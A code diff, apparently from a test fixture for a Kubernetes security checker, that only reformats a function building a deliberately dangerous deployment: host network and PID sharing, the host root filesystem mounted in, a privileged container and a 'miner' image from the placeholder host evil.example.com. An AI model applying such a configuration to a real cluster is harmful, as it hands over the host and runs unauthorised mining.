@@ -93,7 +93,9 @@ export function privilegedDeployment(name: string): KubeObject {
     hostNetwork: true,
     hostPID: true,
     volumes: [{ name: 'root', hostPath: { path: '/' } }],
-    containers: [{ name: 'x', image: 'evil.example.com/miner:latest', securityContext: { privileged: true }, volumeMounts: [{ name: 'root', mountPath: '/host' }] }],
+    containers: [
+      { name: 'x', image: 'evil.example.com/miner:latest', securityContext: { privileged: true }, volumeMounts: [{ name: 'root', mountPath: '/host' }] },
+    ],
   });
 }
 
